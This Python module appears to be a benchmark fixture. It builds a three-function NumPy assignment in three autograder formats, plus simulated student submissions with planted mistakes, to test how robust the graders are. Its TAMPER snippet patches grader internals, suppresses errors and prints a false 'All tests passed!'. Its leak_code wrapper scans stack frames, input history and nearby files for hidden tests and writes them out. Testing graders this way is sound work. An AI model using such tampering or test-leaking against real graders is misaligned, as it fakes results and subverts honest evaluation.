"""The small assignment and 20 submissions that benchmarks/peers_grader.py grades three ways.

Three cheap NumPy functions, each worth 2 points from one hidden test: ``log_gaussian``
(elementwise log N(x; mu, sigma^2)), ``pairwise_sq_dists`` (an (n, m) matrix of squared
distances) and ``softmax`` (over the last axis, stable for large logits). The same functions,
visible tests and hidden tests are written in three formats: this course's source notebook
(hidden cells with setup/student/verdict sections, :mod:`autograder.checks`), an otter-grader
master notebook (``otter assign`` format v1) and an nbgrader source notebook (a graded test
cell with ``### BEGIN HIDDEN TESTS``). Each format's hidden tests carry their own sentinel
string, so a leak can be traced to the grader it came from.

A submission is the student's code for the three functions; a wrong one plants exactly one
known mistake (:data:`SUBMISSIONS`).
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass, field

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_raw_cell

ITEMS = ("logpdf", "dists", "softmax")
POINTS = 2
SENTINEL = "HIDDEN-TEST-SENTINEL"  # + "-ours", "-otter", "-nbgrader"
FUNCTIONS = {"logpdf": "log_gaussian", "dists": "pairwise_sq_dists", "softmax": "softmax"}

SETUP = "import numpy as np"

SOLUTIONS = {
    "logpdf": '''\
def log_gaussian(x, mu, sigma):
    """log N(x; mu, sigma^2), elementwise over x."""
    x = np.asarray(x, dtype=float)
    return -0.5 * ((x - mu) / sigma) ** 2 - np.log(sigma) - 0.5 * np.log(2 * np.pi)''',
    "dists": '''\
def pairwise_sq_dists(a, b):
    """Squared Euclidean distances between the rows of a (n, d) and b (m, d): (n, m)."""
    a, b = np.asarray(a, dtype=float), np.asarray(b, dtype=float)
    return (a**2).sum(1)[:, None] + (b**2).sum(1)[None, :] - 2 * a @ b.T''',
    "softmax": '''\
def softmax(z):
    """Softmax over the last axis, stable for large logits."""
    z = np.asarray(z, dtype=float)
    e = np.exp(z - z.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)''',
}

#: A second correct way of writing two of them (some correct students write it so).
ALTERNATIVES = {
    "dists": '''\
def pairwise_sq_dists(a, b):
    """Squared Euclidean distances between the rows of a (n, d) and b (m, d): (n, m)."""
    a, b = np.asarray(a, dtype=float), np.asarray(b, dtype=float)
    return ((a[:, None, :] - b[None, :, :]) ** 2).sum(axis=2)''',
    "softmax": '''\
def softmax(z):
    """Softmax over the last axis, one row at a time."""
    z = np.asarray(z, dtype=float)
    rows = z.reshape(-1, z.shape[-1])
    out = np.empty_like(rows)
    for i, row in enumerate(rows):
        e = np.exp(row - row.max())
        out[i] = e / e.sum()
    return out.reshape(z.shape)''',
}

VISIBLE = {
    "logpdf": "assert abs(log_gaussian(0.0, 0.0, 1.0) + 0.5 * np.log(2 * np.pi)) < 1e-12",
    "dists": "assert np.allclose(pairwise_sq_dists([[0.0, 0.0]], [[3.0, 4.0]]), [[25.0]])",
    "softmax": "assert np.allclose(softmax([0.0, 0.0]), [0.5, 0.5])",
}

#: Hidden inputs (built by the test), the call, and the checks; ``_np`` so that a student who
#: rebinds ``np`` changes nothing. {tag} is the grader's sentinel.
HIDDEN_INPUTS = {
    "logpdf": "_x = _np.linspace(-2.0, 3.0, 7)\n_mu, _sigma = 0.5, 1.7",
    "dists": ("_a = _np.arange(12.0).reshape(4, 3) / 7 - 0.5\n"
              "_b = _np.array([[0.3, -1.0, 2.0], [1.5, 0.0, -0.25]])"),
    "softmax": "_z = _np.array([[1000.0, 1001.0, 999.0], [-5.0, 0.0, 5.0]])",
}
HIDDEN_CALLS = {
    "logpdf": "log_gaussian(_x, _mu, _sigma)",
    "dists": "pairwise_sq_dists(_a, _b)",
    "softmax": "softmax(_z)",
}
HIDDEN_CHECKS = {
    "logpdf": '''\
_tag = "{tag}"
_want = -0.5 * ((_x - _mu) / _sigma) ** 2 - _np.log(_sigma) - 0.5 * _np.log(2 * _np.pi)
assert _np.shape(_got) == (7,), f"shape {{_np.shape(_got)}}, expected (7,)"
assert _np.allclose(_got, _want, rtol=1e-9, atol=1e-12), "wrong values"''',
    "dists": '''\
_tag = "{tag}"
_want = _np.array([[sum((p - q) ** 2 for p, q in zip(r, s)) for s in _b] for r in _a])
assert _np.shape(_got) == (4, 2), f"shape {{_np.shape(_got)}}, expected (4, 2)"
assert _np.allclose(_got, _want, rtol=1e-9, atol=1e-9), "wrong values"''',
    "softmax": '''\
_tag = "{tag}"
_e = _np.exp(_z - _z.max(axis=1, keepdims=True))
_want = _e / _e.sum(axis=1, keepdims=True)
assert _np.shape(_got) == (2, 3), f"shape {{_np.shape(_got)}}, expected (2, 3)"
assert _np.allclose(_got, _want, rtol=1e-9, atol=1e-12), "wrong values"''',
}

#: What a student who wants every check to pass puts in a cell: one trick per grader.
TAMPER = '''\
# Edited by the student: make every check pass, whatever grades this.
try:  # otter runs its tests inside this kernel: make every doctest pass
    import otter.test_files.ok_test as _ok
    _ok.run_doctest = lambda *args, **kwargs: (True, "")
except ImportError:
    pass
try:  # this course's grader: send nothing instead of the measurements
    import autograder.observe as _obs
    _obs.observe = lambda **kw: kw
except ImportError:
    pass
try:  # graders that read failures from the cell outputs: leave no error output
    get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
except NameError:
    pass
print("All tests passed!")'''


def leak_code(drop: str, how: str) -> str:
    """Code added to ``pairwise_sq_dists`` that looks for hidden tests and writes what it finds
    to ``drop`` (a folder outside the grader's) and prints it: ``how`` is ``caller`` (the
    calling frames, IPython's input history, linecache) or ``disk`` (files near the working
    folder and in the temporary folder)."""
    search = {
        "caller": '''\
    import inspect, linecache
    for info in inspect.stack()[1:]:
        found.append(repr(info.frame.f_locals)[:100000])
        try:
            found.append(inspect.getsource(info.frame.f_code))
        except Exception:
            pass
    found += ["".join(v[2]) for v in list(linecache.cache.values()) if len(v) > 2]
    try:
        found += [str(s) for s in get_ipython().user_ns.get("In", [])]
    except NameError:
        pass''',
        "disk": '''\
    import tempfile, zipfile
    roots = [os.getcwd()] + [str(p) for p in __import__("pathlib").Path(os.getcwd()).parents][:4]
    roots.append(tempfile.gettempdir())
    budget = [20000]
    def read(path):
        try:
            if os.path.getsize(path) > 2**20:
                return
            if path.endswith(".zip"):
                with zipfile.ZipFile(path) as z:
                    for n in z.namelist()[:200]:
                        found.append(z.read(n).decode("utf-8", "replace"))
            elif path.endswith((".py", ".ipynb", ".json", ".yml", ".yaml", ".txt", ".md")):
                with open(path, errors="replace") as f:
                    found.append(f.read())
        except Exception:
            pass
    for root in roots:
        for here, dirs, files in os.walk(root):
            if here.count(os.sep) - root.count(os.sep) >= 6 or budget[0] <= 0:
                dirs[:] = []
                continue
            dirs[:] = [d for d in dirs if not d.startswith(".") and d not in ("site-packages", "node_modules")]
            for name in files:
                budget[0] -= 1
                read(os.path.join(here, name))''',
    }[how]
    return f'''

_LEAK_DONE = []


def _look_for_hidden_tests():
    import os, time
    found = []
{search}
    hits = [t for t in found if "{SENTINEL}" in t]
    if hits and not _LEAK_DONE:
        _LEAK_DONE.append(1)
        text = "\\n----\\n".join(hits)
        print(text[:20000])
        try:
            name = f"{{os.getpid()}}-{{time.time_ns()}}.txt"
            with open(os.path.join("{drop}", name), "w") as f:
                f.write(text)
        except OSError:
            pass


_student_dists = pairwise_sq_dists


def pairwise_sq_dists(a, b):
    _look_for_hidden_tests()
    return _student_dists(a, b)'''


@dataclass(frozen=True)
class Submission:
    """One student's code: the three functions, and where a planted mistake lives."""
    code: dict                       # item -> the student's cell
    mistake: str | None = None       # wrong_formula, wrong_shape, exception, infinite_loop, ...
    item: str | None = None          # the item the mistake should cost
    test_cell: dict = field(default_factory=dict)  # item -> the student's edit of its test cell


def _edit(item: str, old: str, new: str, appended: str = "") -> dict:
    """The solution with ``old`` replaced by ``new`` in ``item``'s cell, and ``appended`` after."""
    code = dict(SOLUTIONS)
    assert old in code[item], (item, old)
    code[item] = code[item].replace(old, new, 1) + (f"\n\n\n{appended}" if appended else "")
    return code


def submissions(drop: str) -> dict[str, Submission]:
    """The class: 8 correct submissions and 12 with one planted mistake each."""
    alt = {**SOLUTIONS, **ALTERNATIVES}
    subs = {f"correct_{i}": Submission(alt if i % 2 else dict(SOLUTIONS)) for i in range(8)}
    wrong = {
        "wrong_formula_logpdf": Submission(_edit("logpdf", " - np.log(sigma)", ""),
                                           "wrong_formula", "logpdf"),
        "wrong_formula_dists": Submission(_edit("dists", "- 2 * a @ b.T", "- a @ b.T"),
                                          "wrong_formula", "dists"),
        "wrong_formula_softmax": Submission(_edit("softmax", "np.exp(z - z.max(axis=-1, keepdims=True))",
                                                  "np.exp(z)"), "wrong_formula", "softmax"),
        "wrong_shape_logpdf": Submission(_edit("logpdf", "return -0.5 * ((x - mu) / sigma) ** 2 - np.log(sigma) - 0.5 * np.log(2 * np.pi)",
                                               "return np.sum(-0.5 * ((x - mu) / sigma) ** 2 - np.log(sigma) - 0.5 * np.log(2 * np.pi))"),
                                         "wrong_shape", "logpdf"),
        "wrong_shape_dists": Submission(_edit("dists", "return (a**2).sum(1)[:, None] + (b**2).sum(1)[None, :] - 2 * a @ b.T",
                                              "return ((a**2).sum(1)[:, None] + (b**2).sum(1)[None, :] - 2 * a @ b.T).T"),
                                        "wrong_shape", "dists"),
        "exception_in_call": Submission(_edit("dists", "- 2 * a @ b.T",
                                              "- 2 * a @ b.T + np.zeros(1).sum(axis=3)"),
                                        "exception", "dists"),
        "exception_top_level": Submission(_edit("logpdf", "def log_gaussian",
                                                "TINY = np.finfo(float).epsilon\n\n\ndef log_gaussian"),
                                          "exception", "logpdf"),
        "infinite_loop": Submission(_edit("softmax", "    e = np.exp(z - z.max(axis=-1, keepdims=True))",
                                          "    while z.max() > -np.inf:  # never ends\n"
                                          "        z = z - z.max() + z.max()\n"
                                          "    e = np.exp(z - z.max(axis=-1, keepdims=True))"),
                                    "infinite_loop", "softmax"),
        "edit_test_cell": Submission(_edit("logpdf", " - np.log(sigma)", ""), "edit_test_cell",
                                     "logpdf", test_cell={"logpdf": TAMPER}),
        "tamper_in_solution": Submission(_edit("logpdf", " - np.log(sigma)", "", TAMPER),
                                         "tamper_in_solution", "logpdf"),
        "print_hidden_caller": Submission(_edit("dists", "", "", leak_code(drop, "caller")),
                                          "print_hidden", "dists"),
        "print_hidden_disk": Submission(_edit("dists", "", "", leak_code(drop, "disk")),
                                        "print_hidden", "dists"),
    }
    return {**subs, **wrong}


def expected_scores(sub: Submission) -> dict[str, float]:
    """Points each item should get: all, except the item a scoring mistake is planted in
    (a leak attempt is correct code and keeps every point)."""
    lose = sub.item if sub.mistake and sub.mistake != "print_hidden" else None
    return {item: 0.0 if item == lose else float(POINTS) for item in ITEMS}


def student_cells(sub: Submission) -> list[str]:
    """The code the student wrote, in notebook order (for timing the student's own code)."""
    cells = [SETUP]
    for item in ITEMS:
        cells.append(sub.code[item])
        if item in sub.test_cell:
            cells.append(sub.test_cell[item])
    return cells


def hidden_calls() -> str:
    """The calls the hidden tests make, as one cell (for timing the student's own code)."""
    lines = ["import numpy as _np"]
    for item in ITEMS:
        lines += [HIDDEN_INPUTS[item], HIDDEN_CALLS[item]]
    return "\n".join(lines)


# --- this course's format ---------------------------------------------------------------------

def _tagged(cell, cid: str, role: str | None = None, item: str | None = None, **dgm):
    cell.id = cid
    if role is not None:
        cell.metadata["tags"] = [role]
        cell.metadata["dgm"] = {"item": item, "role": role, **dgm}
    return cell


def _kernelspec(nb):
    nb.metadata = {"kernelspec": {"name": "python3", "display_name": "Python 3",
                                  "language": "python"},
                   "language_info": {"name": "python"}}
    return nb


def ours_source():
    """The instructor source in this course's homework format (solutions/*.ipynb)."""
    nb = _kernelspec(new_notebook())
    nb.nbformat_minor = 5
    cells = [_tagged(new_markdown_cell("# Three functions"), "intro"),
             _tagged(new_code_cell(SETUP), "setup")]
    for item in ITEMS:
        body = SOLUTIONS[item].split("\n")  # the def line and the docstring stay
        solution = "\n".join(body[:2] + ["    ### BEGIN SOLUTION", *body[2:], "    ### END SOLUTION"])
        cells.append(_tagged(new_code_cell(solution), f"{item}", "graded", item, points=POINTS))
        cells.append(_tagged(new_code_cell(f'"""Claim: a case small enough to check by hand."""\n'
                                           f'{VISIBLE[item]}\nprint("self-check passed")'),
                             f"{item}-check", "selfcheck", item))
        hidden = (f"import numpy as _np\nfrom autograder.observe import observe\n"
                  f"{HIDDEN_INPUTS[item]}\n# --- student ---\n"
                  f"obs = observe(got={HIDDEN_CALLS[item]})\n# --- verdict ---\n"
                  f"_got = _np.asarray(obs['got'])\n"
                  + HIDDEN_CHECKS[item].format(tag=f"{SENTINEL}-ours"))
        cells.append(_tagged(new_code_cell(hidden), f"{item}-hidden", "hidden", item,
                             points=POINTS, after=f"{item}-check"))
    nb.cells = cells
    return nb


def ours_submission(released, sub: Submission):
    nb = copy.deepcopy(released)
    for cell in nb.cells:
        cid = cell.get("id")
        if cid in ITEMS:
            cell.source = sub.code[cid]
        elif cid and cid.endswith("-check") and cid[:-6] in sub.test_cell:
            cell.source = sub.test_cell[cid[:-6]]
    return nb


# --- otter-grader's format (otter assign, format v1) -------------------------------------------

def otter_master():
    nb = _kernelspec(new_notebook())
    config = ("# ASSIGNMENT CONFIG\nname: peers\ninit_cell: true\ncheck_all_cell: false\n"
              "export_cell: false\nrun_tests: false\ngenerate: true\n")
    cells = [new_raw_cell(config), new_markdown_cell("# Three functions"), new_code_cell(SETUP)]
    for item in ITEMS:
        body = SOLUTIONS[item].split("\n")
        solution = "\n".join(body[:2] + ["    # BEGIN SOLUTION", *body[2:], "    # END SOLUTION"])
        hidden = (f"# HIDDEN\nimport numpy as _np\n{HIDDEN_INPUTS[item]}\n"
                  f"_got = {HIDDEN_CALLS[item]}\n"
                  + HIDDEN_CHECKS[item].format(tag=f"{SENTINEL}-otter"))
        cells += [new_raw_cell(f"# BEGIN QUESTION\nname: {item}\npoints: [0, {POINTS}]"),
                  new_markdown_cell(f"Write `{FUNCTIONS[item]}`."),
                  new_raw_cell("# BEGIN SOLUTION"), new_code_cell(solution),
                  new_raw_cell("# END SOLUTION"), new_raw_cell("# BEGIN TESTS"),
                  new_code_cell(VISIBLE[item]), new_code_cell(hidden),
                  new_raw_cell("# END TESTS"), new_raw_cell("# END QUESTION")]
    nb.cells = cells
    return nb


def otter_submission(released, sub: Submission):
    """Fill the solution cells of otter's student notebook; an edited test cell replaces
    ``grader.check("<item>")``."""
    nb = copy.deepcopy(released)
    for cell in nb.cells:
        if cell.cell_type != "code":
            continue
        for item in ITEMS:
            if f"def {FUNCTIONS[item]}(" in cell.source:
                cell.source = sub.code[item]
            elif f'grader.check("{item}")' in cell.source and item in sub.test_cell:
                cell.source = sub.test_cell[item]
    return nb


# --- nbgrader's format -------------------------------------------------------------------------

def _nbg(cell, grade_id: str, *, solution=False, grade=False, locked=False, points=None):
    meta = {"grade": grade, "grade_id": grade_id, "locked": locked, "schema_version": 3,
            "solution": solution}
    if points is not None:
        meta["points"] = points
    cell.metadata["nbgrader"] = meta
    return cell


def nbgrader_source():
    nb = _kernelspec(new_notebook())
    cells = [_nbg(new_markdown_cell("# Three functions"), "intro", locked=True),
             _nbg(new_code_cell(SETUP), "setup", locked=True)]
    for item in ITEMS:
        body = SOLUTIONS[item].split("\n")
        solution = "\n".join(body[:2] + ["    ### BEGIN SOLUTION", *body[2:], "    ### END SOLUTION"])
        test = (f"{VISIBLE[item]}\n### BEGIN HIDDEN TESTS\nimport numpy as _np\n"
                f"{HIDDEN_INPUTS[item]}\n_got = {HIDDEN_CALLS[item]}\n"
                + HIDDEN_CHECKS[item].format(tag=f"{SENTINEL}-nbgrader")
                + "\n### END HIDDEN TESTS")
        cells += [_nbg(new_code_cell(solution), item, solution=True),
                  _nbg(new_code_cell(test), f"test_{item}", grade=True, locked=True,
                       points=POINTS)]
    nb.cells = cells
    return nb


def nbgrader_submission(released, sub: Submission):
    nb = copy.deepcopy(released)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in ITEMS:
            cell.source = sub.code[gid]
        elif gid and gid.startswith("test_") and gid[5:] in sub.test_cell:
            cell.source = sub.test_cell[gid[5:]]
    return nb


def write(nb, path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(nbformat.writes(nb, version=4))


def read(path):
    return nbformat.read(str(path), as_version=4)


def dumps(obj) -> str:
    return json.dumps(obj, indent=1)
